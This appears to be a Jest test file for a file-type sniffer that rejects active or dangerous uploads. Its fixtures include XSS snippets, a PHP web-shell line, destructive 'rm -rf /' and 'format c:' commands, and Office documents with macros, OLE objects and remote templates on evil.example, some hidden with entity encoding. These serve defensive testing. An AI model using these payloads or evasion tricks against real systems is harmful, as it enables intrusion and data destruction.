import { describe, expect, it } from '@jest/globals';
import { bytesOf, ole, ooxml, openDocument, relationship, xls, zip } from '../../../test/sample-files.js';
import { sniff, whyNot } from './sniff.js';

const typeOf = (content: string | Buffer) => sniff(bytesOf(content));

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const RELS = 'word/_rels/settings.xml.rels';
const DOCX = 'word/document.xml';
/** With the address in front of all else. */
const turned = (relationships: string) =>
  relationships.replace(/(<Relationship )(.*) (Target="[^"]*")\/>/, '$1$3 $2/>');

describe('S17 a file that a program could run or show as a page', () => {
  it.each([
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<?xml version="1.0"?><svg/>',
    '<?xml-stylesheet type="text/xsl" href="#"?><a/>',
    '\ufeff \n<!DOCTYPE html><script>alert(1)</script>',
    '<HTML>',
    '<!-- --><script>',
    '<a href="javascript:alert(1)">',
    '<?php system($_GET[0]);',
    '<% Response.Write %>',
    '<body onload=alert(1)>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">',
    '<a\nhref="javascript:alert(1)">',
    '<root xmlns="http://www.w3.org/2000/svg">',
    '\u200b<p align="center">',
    '<![CDATA[',
    'Subject: a\n b\nX-A: b\nMIME-Version: 1.0\n\nhello',
    '#!/bin/sh\nrm -rf /',
    '%!PS\nrun',
    '{\\rtf1 {\\object}}',
    '@echo off\r\nformat c:',
    '[InternetShortcut]\r\nURL=file://evil',
    'From: <Saved by Mozilla>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x',
  ])('is no text: %j', async (content) => {
    expect(await typeOf(content)).toBeNull();
  });
});

describe('S17 a document with active content', () => {
  const types = (type: string) => ({
    '[Content_Types].xml': `<Types><Override PartName="/x/a.bin" ContentType="${type}"/></Types>`,
  });

  it.each<[string, Buffer, string]>([
    ['an xls with a sheet of Excel 4 macros', xls([0, 1]), 'macros'],
    ['a large one', xls([0, 0, 1], { before: 8_000 }), 'macros'],
    ['one of 1995', xls([1], { name: 'Book' }), 'macros'],
    ['one that calls its stream otherwise', xls([1], { name: 'WORKBOOK' }), 'macros'],
    ['an xls with a module of Visual Basic', xls([6]), 'macros'],
    ['an xls whose sheets cannot be read', xls([0], { broken: true, before: 200 }), 'unreadable'],
    ['a large one', xls([0], { broken: true, before: 8_000 }), 'unreadable'],
    ['a doc with a file in it', ole(['WordDocument', 'ObjectPool'], ['\u0001Ole10Native']), 'embedded'],
    ['a doc with a formula of old', ole(['WordDocument'], ['Equation Native']), 'embedded'],
    ['a docx whose macros have another name', ooxml(DOCX, types('application/vnd.ms-office.vbaProject')), 'macros'],
    ['a docx that is a docm', ooxml(DOCX, types('application/vnd.ms-word.document.macroEnabled.main+xml')), 'macros'],
    ['one that hides it', ooxml(DOCX, types('application/vnd.ms-office.vba&#80;roject')), 'macros'],
    ['one that hides it in hexadecimal', ooxml(DOCX, types('application/vnd.ms-office.&#x76;baProject')), 'macros'],
    [
      'an xlsx with a sheet of Excel 4 macros',
      ooxml('xl/workbook.xml', types('application/vnd.ms-excel.macrosheet+xml')),
      'macros',
    ],
    [
      'macros that only a relationship tells of',
      ooxml(DOCX, { 'word/_rels/document.xml.rels': relationship('vbaProject', 'a.bin', 'Internal') }),
      'macros',
    ],
    ['a docx with a control', ooxml(DOCX, types('application/vnd.ms-office.activeX+xml')), 'macros'],
    ['a docx with an OLE object', ooxml(DOCX, { 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
    [
      'an OLE object by another name',
      ooxml(DOCX, { 'word/_rels/document.xml.rels': relationship('oleObject', 'media/image1.png', 'Internal') }),
      'embedded',
    ],
    [
      'an OLE object of another computer',
      ooxml(DOCX, { 'word/_rels/document.xml.rels': relationship('oleObject', 'https://evil.example/a') }),
      'embedded',
    ],
    ['a docx with a program in it', ooxml(DOCX, { 'word/embeddings/a.exe': 'MZ' }), 'embedded'],
    [
      'an odt with an OLE object',
      openDocument('text', {
        'META-INF/manifest.xml': '<file-entry media-type="application/vnd.sun.star.oleobject"/>',
      }),
      'embedded',
    ],
    [
      'a remote template',
      ooxml(DOCX, { [RELS]: relationship('attachedTemplate', 'https://evil.example/a.dotm') }),
      'remote',
    ],
    ['one of a share', ooxml(DOCX, { [RELS]: relationship('attachedTemplate', '\\\\evil.example\\a.dotm') }), 'remote'],
    [
      'one of a share, as an address',
      ooxml(DOCX, { [RELS]: relationship('attachedTemplate', 'file://evil.example/a.dotm') }),
      'remote',
    ],
    [
      'one of a share, with more slashes',
      ooxml(DOCX, { [RELS]: relationship('attachedTemplate', 'file://///evil.example/a.dotm') }),
      'remote',
    ],
    [
      'one that is hidden',
      ooxml(DOCX, { [RELS]: relationship('attachedTemplate', '&#104;ttps://evil.example/a.dotm') }),
      'remote',
    ],
    [
      'one written in numbers with many zeros',
      ooxml(DOCX, { [RELS]: relationship('attachedTemplate', '&#x000000000068;ttps://evil.example/a.dotm') }),
      'remote',
    ],
    [
      'one whose address comes first and holds the end of a tag',
      ooxml(DOCX, { [RELS]: turned(relationship('attachedTemplate', 'https://evil.example/?>a.dotm')) }),
      'remote',
    ],
    [
      'one whose address holds a quote in numbers, and more',
      ooxml(DOCX, { [RELS]: turned(relationship('attachedTemplate', 'https://evil.example/?&#34;>a.dotm')) }),
      'remote',
    ],
    [
      'one whose address holds an attribute',
      ooxml(DOCX, {
        [RELS]: turned(relationship('attachedTemplate', "https://evil.example/? TargetMode='Internal' a.dotm")),
      }),
      'remote',
    ],
    [
      'a frame',
      ooxml(DOCX, { 'word/_rels/webSettings.xml.rels': relationship('frame', 'http://evil.example/') }),
      'remote',
    ],
    ['an entity', ooxml(DOCX, { [RELS]: '<!DOCTYPE a [<!ENTITY b "c">]>' }), 'unreadable'],
    [
      'relationships in UTF-16',
      ooxml(DOCX, {
        [RELS]: Buffer.from(relationship('attachedTemplate', 'https://evil.example/'), 'utf16le').toString('latin1'),
      }),
      'unreadable',
    ],
    ['one part twice', ooxml(DOCX, { 'Word/Document.xml': 'x' }), 'unreadable'],
  ])('S17 %s is not taken', async (_, content, why) => {
    expect([await typeOf(content), await whyNot(bytesOf(content))]).toEqual([null, why]);
  });

  it.each<[string, Buffer, string]>([
    ['an xls of tables and charts', xls([0, 2, 0]), 'application/vnd.ms-excel'],
    ['a large one', xls([0, 2, 0], { before: 8_000 }), 'application/vnd.ms-excel'],
    [
      'a docx with a link',
      ooxml(DOCX, {
        'word/_rels/document.xml.rels': relationship('hyperlink', 'https://example.com/vbaProject?oleObject'),
      }),
      WORD,
    ],
    [
      'a docx with a picture of elsewhere',
      ooxml(DOCX, { 'word/_rels/document.xml.rels': relationship('image', 'https://example.com/a.png') }),
      WORD,
    ],
    [
      'a docx with a template of its own computer',
      ooxml(DOCX, { [RELS]: relationship('attachedTemplate', 'file:///C:\\Templates\\letter.dotm') }),
      WORD,
    ],
    ['one of a Mac', ooxml(DOCX, { [RELS]: relationship('attachedTemplate', 'file:///Users/jana/letter.dotm') }), WORD],
    ['one without an address', ooxml(DOCX, { [RELS]: relationship('attachedTemplate', 'Normal.dotm') }), WORD],
    ['a docx with a chart', ooxml(DOCX, { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' }), WORD],
    [
      'a docx that spells its parts otherwise',
      zip({ '[content_types].xml': '<Types/>', '/Word\\Document.xml': '<x/>' }),
      WORD,
    ],
  ])('%s is taken', async (_, content, type) => {
    expect([await typeOf(content), await whyNot(bytesOf(content))]).toEqual([type, 'unknown']);
  });
});
